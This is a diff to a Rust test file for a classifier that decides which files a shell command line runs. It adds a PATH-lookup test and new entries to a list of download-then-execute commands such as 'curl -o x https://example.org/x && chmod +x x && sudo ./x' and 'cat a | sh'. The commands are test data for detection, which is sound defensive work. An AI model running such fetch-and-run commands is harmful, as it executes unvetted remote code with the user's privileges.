@@ -11,7 +11,7 @@ fn line(text: &str) -> Classification {
 }
 
 fn paths(answer: &Classification) -> Vec<&str> {
-    answer.obeyed.iter().map(|file| file.path.as_str()).collect()
+    answer.obeyed.iter().filter(|file| !file.searched).map(|file| file.path.as_str()).collect()
 }
 
 fn argv(words: &[&str]) -> Vec<String> {
@@ -102,8 +102,22 @@ fn the_executable_itself_is_no_such_file() {
 }
 
 #[test]
+fn a_shell_looks_for_a_bare_name_along_the_path_too() {
+    let searched = |text: &str| {
+        let all = line(text).obeyed.into_iter().filter(|file| file.searched);
+        all.map(|file| file.path).collect::<Vec<_>>()
+    };
+    assert_eq!(searched("bash x.sh; . lib; bash x.sh"), ["x.sh", "lib"]);
+    for text in ["bash ./x.sh", "python3 x.py", "ssh web1 'sh x.sh'", "make -f M"] {
+        assert_eq!(searched(text), [""; 0], "{text}");
+    }
+}
+
+#[test]
 fn a_file_that_no_word_names_is_told_from_one_that_is_named() {
-    let named = |text: &str| line(text).obeyed.into_iter().map(|file| file.named).collect::<Vec<_>>();
+    let named = |text: &str| {
+        line(text).obeyed.into_iter().filter(|file| !file.searched).map(|file| file.named).collect::<Vec<_>>()
+    };
     assert_eq!(named("make"), [false; 3]);
     assert_eq!(named("make -f M"), [true]);
     assert_eq!(named("make; sh Makefile"), [false, false, true]);
@@ -131,6 +145,8 @@ const FETCHED: &[&str] = &[
     "wget -qO /tmp/x.js https://example.org/x && node /tmp/x.js",
     "curl -o x https://example.org/x && chmod +x x && ./x",
     "curl -o x https://example.org/x && chmod +x x && sudo ./x",
+    "curl -o gradlew https://example.org/x && ./gradlew test",
+    "curl -o git https://example.org/x && env ./git status",
     "curl -o a https://example.org/x && mv a b && sh b",
     "curl -o a https://example.org/x && cp a b && source ./b",
     "curl -o a https://example.org/x && cat a | sh",
